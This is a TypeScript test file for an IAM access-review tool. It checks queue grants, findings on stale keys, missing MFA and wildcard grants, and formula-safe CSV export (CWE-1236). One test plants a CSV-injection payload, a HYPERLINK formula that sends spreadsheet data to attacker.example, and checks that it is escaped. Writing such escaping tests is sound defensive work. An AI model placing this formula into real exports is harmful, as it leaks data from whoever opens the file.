import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { reviewAccess, reviewCsv } from '../../src/iam/review.ts';
import { formulaLead, parseCsv } from '../support/csv.ts';
import { account, allow, deny, IamHarness, policy } from '../support/iam-harness.ts';

const orders = `arn:aws:sqs:us-east-1:${account}:orders`;
const audit = `arn:aws:sqs:us-east-1:${account}:audit`;
const sqsActions = ['sqs:SendMessage', 'sqs:ReceiveMessage', 'sqs:PurgeQueue'];

describe('the access review (PCI DSS 7.2.4)', () => {
  let h: IamHarness;
  before(async () => {
    h = await new IamHarness().open();
    await h.admin();
    await h.user(
      'clerk',
      policy({ Sid: 'Send', ...allow('sqs:SendMessage', orders) }),
      policy({
        Sid: 'ReadWithMfa',
        ...allow('sqs:ReceiveMessage', '*', { Bool: { 'aws:MultiFactorAuthPresent': 'true' } }),
      }),
      policy({ Sid: 'NoPurge', ...deny('sqs:PurgeQueue') }),
    );
    await h.iam.createUser(account, { userName: 'auditor' });
    await h.iam.createLoginProfile(account, { owner: { userName: 'auditor' }, password: 'ledger pass 2026' });
  });
  after(() => h.close());

  async function review() {
    const queuePolicy = JSON.stringify(
      policy({
        Sid: 'AuditorReads',
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${account}:user/auditor` },
        Action: 'sqs:ReceiveMessage',
        Resource: audit,
      }),
    );
    return h.store.read((tx) =>
      reviewAccess(tx, {
        accountId: account,
        nowMs: h.clock.now(),
        passwordPolicy: h.iam.context.passwordPolicy,
        resources: [
          { resource: orders, actions: sqsActions },
          { resource: audit, actions: sqsActions, resourcePolicy: queuePolicy },
        ],
      }),
    );
  }

  it('lists every principal that can act on each queue, through which statements, conditions included', async () => {
    const { grants } = await review();
    const of = (resource: string, user: string) =>
      grants.find((grant) => grant.resource === resource && grant.principal === `arn:aws:iam::${account}:user/${user}`);
    assert.deepEqual(of(orders, 'clerk'), {
      resource: orders,
      principal: `arn:aws:iam::${account}:user/clerk`,
      actions: ['sqs:SendMessage', 'sqs:ReceiveMessage'],
      via: ['user/clerk/p0#Send', 'user/clerk/p1#ReadWithMfa'],
      isConditional: true,
    });
    assert.deepEqual(of(audit, 'auditor')?.via, ['resource-policy#AuditorReads']);
    assert.equal(of(orders, 'auditor'), undefined);
    assert.deepEqual(of(orders, 'admin')?.actions, sqsActions);
  });

  it('finds keys unused or older than 90 days, people without MFA or idle for 90 days, and wildcard grants', async () => {
    const fresh = await review();
    assert.ok(
      fresh.findings.some(
        (finding) => finding.kind === 'person-without-mfa' && finding.subject.endsWith(':user/auditor'),
      ),
    );
    assert.ok(!fresh.findings.some((finding) => finding.kind === 'old-access-key'));
    assert.ok(
      fresh.findings.some(
        (finding) => finding.kind === 'wildcard-grant' && finding.subject === 'user/clerk/p1#ReadWithMfa',
      ),
    );
    h.clock.advance(91 * 86_400_000);
    const later = await review();
    const kinds = (kind: string) =>
      later.findings.filter((finding) => finding.kind === kind).map((finding) => finding.detail);
    assert.equal(kinds('old-access-key').length, 2, 'the admin and the clerk');
    assert.equal(kinds('unused-access-key').length, 2);
    assert.match(kinds('unused-access-key')[0]!, /never used/);
    assert.equal(kinds('inactive-login').length, 1);
  });

  it('writes the review as CSV whose cells a spreadsheet reads as text, never as formulas (CWE-1236)', async () => {
    // No name IAM accepts starts a cell today (principals are ARNs); the CSV must hold whatever a detail says.
    const detail = '=HYPERLINK("https://attacker.example/?leak="&A1,"Fix")';
    const reviewed = await review();
    reviewed.findings.push({ kind: 'wildcard-grant', subject: '@SUM(1+1)', detail });
    const [header, ...rows] = parseCsv(reviewCsv(reviewed), ',');
    assert.deepEqual(header, ['kind', 'resource_or_subject', 'principal', 'actions', 'via', 'detail']);
    assert.equal(rows.length, reviewed.grants.length + reviewed.findings.length);
    assert.deepEqual(rows.at(-1), ['wildcard-grant', "'@SUM(1+1)", '', '', '', `'${detail}`]);
    for (const cells of rows) {
      assert.equal(cells.length, header!.length);
      for (const cell of cells) assert.doesNotMatch(cell, formulaLead);
    }
  });
});
